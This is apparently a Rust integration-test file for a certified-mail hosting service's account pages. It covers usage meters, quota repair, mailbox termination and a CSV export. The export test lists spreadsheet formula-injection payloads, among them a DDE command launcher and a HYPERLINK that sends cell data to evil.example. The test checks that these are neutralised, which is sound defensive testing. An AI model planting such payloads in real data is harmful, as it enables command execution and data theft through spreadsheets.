//! What an account sees of its mailboxes.

use app::use_cases::mailboxes::move_on;
use domain::{
    id::MailboxId,
    mailbox::MailboxEvent,
    time::{DAY_US, HOUR_US, MINUTE_US},
};
use ports::plane::{MailboxPlane, MailboxSpec};
use store::{args, mailbox_life, sql};
use testkit::{
    TestApp,
    browser::{Browser, Page},
    builders,
};

use crate::people::signed_in;

sql!(NAME_HOLDER = "UPDATE mailboxes SET holder_name = $2 WHERE id = $1");

sql!(COUNTED = "SELECT COUNT(*) FROM mailbox_usage", i64);

const ADDRESS: &str = "anna.verdi@pec.example.it";

/// A customer with one active mailbox of 1 GB.
async fn one_mailbox(app: &TestApp) -> (Browser, MailboxId) {
    app::fixtures::load_catalogue(&app.cx).await.expect("the sample catalogue");
    let customer = builders::customer(app, 100_811, "RSSMRA80A01H501U").await;
    let order = builders::order(&customer, &["anna.verdi"], "pec.example.it").await;
    let mailbox = builders::pay(app, order).await[0];
    app.settle().await;
    (signed_in(app, customer.login).await, mailbox)
}
/// Time passes, the reconcilers and the worker do what there is to do.
async fn later(app: &TestApp, us: i64) {
    app.clock.advance_us(us);
    app.worker.reconcile_all().await.expect("the reconcilers run");
    app.settle().await;
}
async fn card(app: &TestApp, browser: &mut Browser, mailbox: MailboxId) -> Page {
    // Sessions end while days pass: each look has its own.
    let login = store::mailboxes::card(&mut app.cx.store(), mailbox).await.unwrap().expect("it is there").login_id;
    *browser = signed_in(app, login).await;
    browser.get(&format!("/account/mailboxes/{mailbox}")).await
}

#[tokio::test]
async fn the_card_tells_what_lies_in_a_mailbox() {
    let app = TestApp::new().await;
    let (mut browser, mailbox) = one_mailbox(&app).await;
    const UNKNOWN: &str = "non disponibile, il server di posta non ha risposto";
    card(&app, &mut browser, mailbox).await.must_have("Spazio usato: non ancora misurato.");
    app.plane.set_used_kib(ADDRESS, 320 * 1024);
    later(&app, 0).await;
    let page = card(&app, &mut browser, mailbox).await;
    page.must_have("Usati 0,31 GB, il 31 %.");
    assert_eq!(page.attrs("meter", "value"), ["31"]);
    assert!(!page.has("Quasi piena") && !page.has(UNKNOWN));
    for (kib, percent, words) in [(950, "92", "Quasi piena"), (1100, "107", "Piena")] {
        app.plane.set_used_kib(ADDRESS, kib * 1024);
        later(&app, 6 * HOUR_US).await;
        let page = card(&app, &mut browser, mailbox).await;
        page.must_have(words);
        assert_eq!(page.attrs("meter", "value"), [percent]);
    }
    // Silence: what is known stays for a day, then nothing is claimed; and comes back soon after the servers.
    app.plane.faults.set_down(true);
    later(&app, 23 * HOUR_US).await;
    card(&app, &mut browser, mailbox).await.must_have("il 107 %");
    later(&app, HOUR_US).await;
    let page = card(&app, &mut browser, mailbox).await;
    page.must_have(UNKNOWN);
    assert!(page.attrs("meter", "value").is_empty(), "no bar without a figure");
    app.plane.faults.set_down(false);
    app.plane.set_used_kib(ADDRESS, 0);
    later(&app, 15 * MINUTE_US).await;
    card(&app, &mut browser, mailbox).await.must_have("il 0 %");
    app.finish().await;
}

#[tokio::test]
async fn a_space_other_than_the_plans_is_mended() {
    let app = TestApp::new().await;
    let (_, mailbox) = one_mailbox(&app).await;
    later(&app, 0).await;
    let mails = app.mailer.sent().len();
    let spec = app.plane.spec(ADDRESS).expect("it is made");
    for wrong in [1, spec.quota_kib * 2] {
        app.plane.ensure(&MailboxSpec { quota_kib: wrong, ..spec.clone() }).await.unwrap();
        later(&app, 6 * HOUR_US).await;
        assert_eq!(app.plane.spec(ADDRESS).map(|s| s.quota_kib), Some(spec.quota_kib), "{wrong} KiB");
    }
    app.plane.remove(ADDRESS).await.unwrap();
    later(&app, 6 * HOUR_US).await;
    assert_eq!(app.plane.spec(ADDRESS), Some(spec), "one that the servers have lost is made again");
    let state = mailbox_life::plane(&mut app.cx.store(), mailbox).await.unwrap().expect("it is there").state;
    assert_eq!(state, "active");
    assert_eq!(app.mailer.sent().len(), mails, "nobody is told twice that it works");
    // An expired one may not send, whoever mends it.
    later(&app, 366 * DAY_US).await;
    app.plane.remove(ADDRESS).await.unwrap();
    later(&app, 6 * HOUR_US).await;
    assert_eq!(app.plane.spec(ADDRESS).map(|s| (s.receive, s.send)), Some((true, false)));
    app.finish().await;
}

#[tokio::test]
async fn a_mailbox_that_ends_is_counted_no_more() {
    let app = TestApp::new().await;
    let (_, mailbox) = one_mailbox(&app).await;
    later(&app, 0).await;
    assert_eq!(app.cx.store().one(&COUNTED, args![]).await.unwrap(), 1);
    let cx = app.cx.clone();
    app.cx.write(async move |tx| move_on::apply(tx, &cx, mailbox, MailboxEvent::Terminated).await).await.unwrap();
    app.settle().await;
    assert_eq!(app.cx.store().one(&COUNTED, args![]).await.unwrap(), 0);
    later(&app, DAY_US).await;
    assert!(app.plane.spec(ADDRESS).is_none(), "and is not made again");
    app.finish().await;
}

/// What spreadsheets take for a formula, after blanks and in the wide letters of East Asia too.
const HOSTILE: [&str; 11] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1;\"press\")",
    "+39 333",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "a\";\"=1+1\r\n=2+2;b",
];

#[tokio::test]
async fn no_cell_of_the_export_is_a_formula() {
    let app = TestApp::new().await;
    app::fixtures::load_catalogue(&app.cx).await.expect("the sample catalogue");
    let customer = builders::customer(&app, 100_810, "RSSMRA80A01H501U").await;
    let names: Vec<String> = (0..HOSTILE.len()).map(|n| format!("ufficio.{n:02}")).collect();
    let named: Vec<&str> = names.iter().map(String::as_str).collect();
    let order = builders::order(&customer, &named, "pec.example.it").await;
    let boxes = builders::pay(&app, order).await;
    app.settle().await;
    let ids = boxes.clone();
    let renamed = app.cx.write(async move |tx| {
        for (id, name) in ids.iter().zip(HOSTILE) {
            tx.exactly_one(&NAME_HOLDER, args![*id, name]).await?;
        }
        Ok(())
    });
    renamed.await.expect("the names are written");
    let mut browser = signed_in(&app, customer.login).await;
    let answer = browser.get("/account/mailboxes.csv").await;
    assert_eq!(answer.headers["content-type"], "text/csv; charset=utf-8");
    assert!(answer.headers["content-disposition"].to_str().unwrap().starts_with("attachment"));
    let body = answer.body.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("each line has as many cells")).collect();
    assert_eq!(rows.len(), HOSTILE.len(), "no name makes a line of its own");
    let mut seen: Vec<String> = Vec::new();
    for cell in rows.iter().flatten() {
        let first = cell.trim_start().chars().next();
        assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{cell:?} is a formula");
        assert!(!cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
    }
    seen.extend(rows.iter().map(|r| r[2].to_owned()));
    for name in HOSTILE {
        let kept = seen.iter().any(|s| s == name || *s == format!("'{name}"));
        assert!(kept, "{name:?} is told, with a mark before it at most: {seen:?}");
    }
    // The list itself shows the names as text.
    browser.get("/account/mailboxes").await.must_have("=cmd|").must_have("@SUM(A1:A9)");
    app.finish().await;
}
